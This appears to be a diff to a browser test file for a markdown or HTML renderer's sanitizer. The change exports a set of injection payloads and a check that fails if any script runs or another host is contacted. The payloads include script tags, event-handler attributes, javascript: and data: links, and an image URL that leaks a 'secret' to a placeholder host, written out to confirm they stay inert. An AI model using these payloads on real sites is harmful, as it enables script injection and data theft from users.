@@ -16,7 +16,7 @@ const ECHO = {
   edges: [{ from: 'start', to: 'reply' }],
 };
 
-const PIECES = {
+export const PIECES = {
   html: `<script>${HURT}</script><img src=x onerror="${HURT}"><svg onload="${HURT}"><a xlink:href="javascript:${HURT}"><text>svg</text></a></svg><iframe srcdoc="<script>parent.hurt = true</script>"></iframe><form action="${ELSEWHERE}/form"><button>send</button></form><style>body{display:none}</style><base href="${ELSEWHERE}">`,
   links: `[one](javascript:window.hurt=true) [two](JaVa\tscript:window.hurt=true) [three](data:text/html,<script>parent.hurt=true</script>) [four](vbscript:x) <javascript:window.hurt=true>`,
   pictures: `![pixel](${ELSEWHERE}/pixel.png?leak=secret) ![svg](data:image/svg+xml,<svg onload="${HURT}"/>) ![][ref]\n\n[ref]: ${ELSEWHERE}/ref.png`,
@@ -41,7 +41,7 @@ const PIECES = {
 const GOOD = 'Sums: \\(a^2 + b^2 = c^2\\), and\n\n$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$\n\n```python\ndef add(one, other):\n    return one + other  # a sum\n```\n\n```mermaid\nflowchart LR\n  ask[Question] --> search[Search] --> answer[Answer]\n```';
 
 /** Fails when a script ran, or when another host was asked for anything. */
-async function inert(page, asked, what) {
+export async function inert(page, asked, what) {
   expect(!(await page.evaluate(() => window.hurt)), `${what}: a script ran`);
   expect(asked.length === 0, `${what}: another host was asked: ${asked.join(', ')}`);
   expect(await page.evaluate(() => getComputedStyle(document.body).display !== 'none'), `${what}: a style took effect`);
